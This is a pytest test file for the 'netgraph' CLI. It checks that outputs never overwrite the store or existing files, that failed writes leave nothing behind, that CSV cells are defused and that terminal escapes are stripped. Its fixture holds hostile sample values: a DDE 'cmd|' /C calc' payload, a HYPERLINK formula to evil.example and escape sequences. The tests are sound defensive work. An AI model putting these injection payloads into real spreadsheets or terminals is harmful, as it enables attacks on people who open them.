"""Safe outputs: the store and existing files are never written over, a failed write leaves
nothing behind, every OS error is one line with status 2, CSV cells cannot run as formulas, and
no name can send escape sequences to the terminal."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from netgraph.cli.main import main
from netgraph.cli.output import emit
from netgraph.report.escape import safe_text

ESC_NAME = "\x1b]0;pwned\x07Ann \x1b[31mLee"
C1_NAME = "Dee \x9b31m Red\x7f"
CONTACTS = "\n".join([
    "id,name,email,company",
    "me,Maya Patel,maya@example.com,Patel",
    f'a,"{ESC_NAME}",ann@x.io,"=HYPERLINK(""http://evil.example/?x="",""click"")"',
    "b,@SUM(1+1),bob@x.io,\"+cmd|' /C calc'!A0\"",
    "c,-2+3 Cy,cy@x.io,Acme",
    f"d,{C1_NAME},dee@x.io,Acme",
]) + "\n"
INTERACTIONS = ("date,from,to,kind\n2025-01-01,Maya Patel,ann@x.io,call\n"
                "2025-02-01,Maya Patel,bob@x.io,meeting\n2025-03-01,bob@x.io,cy@x.io,call\n"
                "2025-03-02,Maya Patel,dee@x.io,call\n")
CONTROL = set(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0)])) - {"\n"}


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    """A store whose names and companies are hostile: escapes, C1 controls, formulas."""
    where = tmp_path_factory.mktemp("hostile")
    (where / "contacts.csv").write_text(CONTACTS, encoding="utf-8")
    (where / "interactions.csv").write_text(INTERACTIONS, encoding="utf-8")
    path = where / "hostile.duckdb"
    runner = CliRunner()
    res = runner.invoke(main, ["--db", str(path), "import", str(where / "contacts.csv"),
                               str(where / "interactions.csv")])
    assert res.exit_code == 0, res.output
    assert runner.invoke(main, ["--db", str(path), "init", "--me", "Maya Patel"]).exit_code == 0
    return path


@pytest.fixture
def run(db):
    def invoke(*args: str):
        return CliRunner().invoke(main, ["--db", str(db), *args], catch_exceptions=False)
    return invoke


def _one_line_error(res, *needles: str) -> None:
    assert res.exit_code == 2, res.output
    assert "unexpected error" not in res.output and "Traceback" not in res.output
    lines = [ln for ln in res.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("netgraph: "), res.output
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])


def _digest(path: Path) -> bytes:
    return path.read_bytes()


# -- 1. never the store, never an existing file without --force ---------------------------------


@pytest.mark.parametrize("force", [[], ["--force"]])
@pytest.mark.parametrize("command", ["report", "export-gexf", "export-csv"])
def test_nothing_writes_over_the_store(run, db, command, force):
    before = _digest(db)
    args = {"report": ["report", "--out", str(db)],
            "export-gexf": ["export", str(db), "--format", "gexf"],
            "export-csv": ["export", str(db), "--format", "csv"]}[command]
    res = run(*args, *force)
    assert res.exit_code == 2
    assert "Wrote" not in res.output
    assert _digest(db) == before
    assert run("people", "--format", "json").exit_code == 0


def test_nothing_writes_over_the_wal_or_a_link_to_the_store(run, db, tmp_path):
    before = _digest(db)
    link = tmp_path / "innocent.html"
    link.symlink_to(db)
    _one_line_error(run("report", "--out", str(link), "--force"), "is the store")
    wal = db.with_name(db.name + ".wal")
    _one_line_error(run("export", str(wal), "--format", "graphml", "--force"), "is the store")
    assert not wal.exists()
    assert _digest(db) == before


def test_another_store_is_never_overwritten_even_with_force(run, db, tmp_path):
    other = tmp_path / "other.duckdb"
    shutil.copy(db, other)
    before = _digest(other)
    _one_line_error(run("report", "--out", str(other), "--force"), "DuckDB database")
    assert _digest(other) == before


def test_existing_report_needs_force(run, tmp_path):
    out = tmp_path / "r.html"
    out.write_text("my notes", encoding="utf-8")
    _one_line_error(run("report", "--out", str(out)), str(out), "already exists", "--force")
    assert out.read_text() == "my notes"
    res = run("report", "--out", str(out), "--force")
    assert res.exit_code == 0 and f"Wrote {out}" in res.output
    assert "<!DOCTYPE html>" in out.read_text()


def test_existing_export_file_and_folder_need_force(run, tmp_path):
    gexf = tmp_path / "net.gexf"
    assert run("export", str(gexf)).exit_code == 0
    first = gexf.read_text()
    gexf.write_text("changed", encoding="utf-8")
    _one_line_error(run("export", str(gexf)), "already exists", "--force")
    assert gexf.read_text() == "changed"
    assert run("export", str(gexf), "--force").exit_code == 0
    assert gexf.read_text() == first

    folder = tmp_path / "tables"
    assert run("export", str(folder), "--format", "csv").exit_code == 0
    _one_line_error(run("export", str(folder), "--format", "csv"), "nodes.csv", "already exists")
    assert run("export", str(folder), "--format", "csv", "--force").exit_code == 0
    # a folder without those tables is fine; a file where a folder is wanted is not
    assert run("export", str(folder), "--format", "parquet").exit_code == 0
    _one_line_error(run("export", str(gexf), "--format", "csv", "--force"), "writes a folder")


def test_sample_needs_force_over_its_files(tmp_path):
    runner = CliRunner()
    args = ["sample", "--people", "20", "--out", str(tmp_path)]
    assert runner.invoke(main, args).exit_code == 0
    contacts = tmp_path / "contacts.csv"
    contacts.write_text("mine", encoding="utf-8")
    _one_line_error(runner.invoke(main, args), "contacts.csv", "already exists")
    assert contacts.read_text() == "mine"
    assert runner.invoke(main, [*args, "--force"]).exit_code == 0
    assert contacts.read_text().startswith("id,")


def test_demo_keeps_other_files_and_never_its_own_store(tmp_path):
    runner = CliRunner()
    mine = tmp_path / "mine.html"
    mine.write_text("not a demo report", encoding="utf-8")
    _one_line_error(runner.invoke(main, ["demo", "--out", str(mine)]), "already exists")
    assert mine.read_text() == "not a demo report"
    assert not (tmp_path / "demo.duckdb").exists()
    same = tmp_path / "both.duckdb"
    _one_line_error(runner.invoke(main, ["demo", "--out", str(same), "--db", str(same), "--force"]),
                    "is the store")
    assert not same.exists()


def test_a_write_leaves_no_temporary_file_and_usual_permissions(run, tmp_path):
    out = tmp_path / "deep" / "er" / "r.html"  # missing folders are created
    assert run("report", "--out", str(out)).exit_code == 0
    assert sorted(p.name for p in out.parent.iterdir()) == ["r.html"]
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask


# -- 2 and 3. failed writes: nothing left behind, one line, status 2 -----------------------------


def _mount(where: Path, options: str) -> None:
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("needs root to mount a small tmpfs")
    res = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)],
                         capture_output=True, text=True)
    if res.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {res.stderr.strip()}")


@pytest.fixture
def full_disk(tmp_path):
    """A 64 kB tmpfs holding one small file, then filled to the last byte."""
    where = tmp_path / "full"
    where.mkdir()
    _mount(where, "size=64k")
    try:
        (where / "old.html").write_text("old report", encoding="utf-8")
        with open(where / "filler", "wb", buffering=0) as fh, pytest.raises(OSError):
            while True:
                fh.write(b"x" * 4096)
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=False)


@pytest.fixture
def read_only(tmp_path):
    where = tmp_path / "ro"
    where.mkdir()
    if os.geteuid() != 0:
        where.chmod(0o555)
        yield where
        where.chmod(0o755)
        return
    _mount(where, "ro,size=64k")
    try:
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=False)


def test_full_disk_leaves_nothing_behind(run, full_disk):
    before = sorted(p.name for p in full_disk.iterdir())
    out = full_disk / "r.html"
    _one_line_error(run("report", "--out", str(out)), str(out), "No space left on device",
                    "disk is full")
    _one_line_error(run("report", "--out", str(full_disk / "old.html"), "--force"),
                    "No space left on device")
    _one_line_error(run("export", str(full_disk / "csv"), "--format", "csv"),
                    "No space left on device")
    _one_line_error(CliRunner().invoke(main, ["sample", "--people", "20", "--out", str(full_disk)]),
                    "No space left on device")
    assert sorted(p.name for p in full_disk.iterdir()) == sorted([*before, "csv"])
    assert list((full_disk / "csv").iterdir()) == []
    assert (full_disk / "old.html").read_text() == "old report"


def test_read_only_place(run, read_only):
    _one_line_error(run("report", "--out", str(read_only / "r.html")), str(read_only / "r.html"),
                    "choose a folder you can write to")
    _one_line_error(run("export", str(read_only / "t"), "--format", "parquet"), str(read_only / "t"))
    assert list(read_only.iterdir()) == []


@pytest.mark.parametrize("args", [["report", "--out", ""], ["export", ""],
                                  ["export", "", "--format", "csv"], ["demo", "--out", ""]])
def test_empty_out(run, args):
    _one_line_error(run(*args), "no output path given")


def test_empty_sample_out():
    _one_line_error(CliRunner().invoke(main, ["sample", "--out", ""]), "no output path given")


def test_bad_places(run, tmp_path):
    a_file = tmp_path / "file.txt"
    a_file.write_text("x", encoding="utf-8")
    _one_line_error(run("report", "--out", str(a_file / "r.html")), "is a file, not a folder")
    _one_line_error(run("export", str(a_file / "sub" / "n.gexf")), "is a file, not a folder")
    _one_line_error(run("report", "--out", str(tmp_path)), "is a folder")
    _one_line_error(run("report", "--out", str(tmp_path / ("x" * 300 + ".html"))),
                    "File name too long")
    if Path("/dev/full").exists():
        _one_line_error(run("export", "/dev/full", "--format", "gexf", "--force"),
                        "not a regular file")
        assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


# -- 4. formula injection -------------------------------------------------------------------------


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_csv_neutralises_formulas(run, tmp_path):
    assert run("export", str(tmp_path / "t"), "--format", "csv").exit_code == 0
    text = (tmp_path / "t" / "nodes.csv").read_text(encoding="utf-8")
    nodes = {r["name"]: r for r in _csv_rows(text)}
    assert "'@SUM(1+1)" in nodes and "'-2+3 Cy" in nodes
    assert nodes["'@SUM(1+1)"]["company"] == "'+cmd|' /C calc'!A0"
    assert any(r["company"].startswith("'=HYPERLINK(") for r in nodes.values())
    assert "\x1b" not in text and "\\x1b]0;pwned\\x07Ann" in text
    edges = _csv_rows((tmp_path / "t" / "edges.csv").read_text(encoding="utf-8"))
    assert all(float(e["strength"]) > 0 and not e["strength"].startswith("'") for e in edges)

    assert run("export", str(tmp_path / "raw"), "--format", "csv", "--raw").exit_code == 0
    raw = {r["name"]: r for r in _csv_rows((tmp_path / "raw" / "nodes.csv").read_text())}
    assert "@SUM(1+1)" in raw and ESC_NAME in raw


def test_listing_csv_neutralises_formulas(run):
    res = run("people", "--format", "csv")
    assert res.exit_code == 0
    rows = {r["person_id"]: r for r in _csv_rows(res.output)}
    names = {r["name"] for r in rows.values()}
    assert {"'@SUM(1+1)", "'-2+3 Cy"} <= names
    assert not CONTROL & set(res.output)
    raw = run("people", "--format", "csv", "--raw")
    assert {"@SUM(1+1)", "-2+3 Cy", ESC_NAME} <= {r["name"] for r in _csv_rows(raw.output)}


def test_numbers_stay_numbers_and_tab_and_cr_are_prefixed():
    frame = pd.DataFrame({"score": [-0.5, 1.0], "n": [-3, 4], "text": ["-0.5", "\tx"],
                          "note": ["\rcr", None]})
    buf = io.StringIO()
    emit(frame, "csv", out=buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows[1] == ["-0.5", "-3", "'-0.5", "'\\x0dcr"]  # a bare CR would split the row
    assert rows[2] == ["1.0", "4", "'\tx", ""]
    raw = io.StringIO()
    emit(frame, "csv", out=raw, raw=True)
    assert raw.getvalue().split("\n")[1] == "-0.5,-3,-0.5,\rcr"


# -- 5. terminal escapes --------------------------------------------------------------------------


def test_people_table_has_no_control_characters(run):
    res = run("people")
    assert res.exit_code == 0
    assert not CONTROL & set(res.output)
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(res.output)
    assert "Ann" in res.output and "Dee" in res.output


def test_json_escapes_every_control_character_and_reads_back(run):
    res = run("people", "--format", "json")
    assert not CONTROL & set(res.output)
    assert "\\u009b" in res.output and "\\u007f" in res.output
    names = {p["name"] for p in json.loads(res.output)}
    assert {ESC_NAME, C1_NAME} <= names


def test_messages_are_sanitised(run, tmp_path):
    out = tmp_path / "evil\x1b]0;title\x07.html"
    res = run("report", "--out", str(out))
    assert res.exit_code == 0 and out.exists()
    assert "Wrote" in res.output and not CONTROL & set(res.output)
    res = CliRunner().invoke(main, ["--db", str(tmp_path / "none.duckdb"), "intro", "\x1b[31mX"])
    assert res.exit_code == 2 and not CONTROL & set(res.output)


def test_safe_text_drops_bidi_and_c1():
    assert safe_text("a\u202eb\u2066c\x9bd\x7fe\x1bf\tg") == "abcdef g"
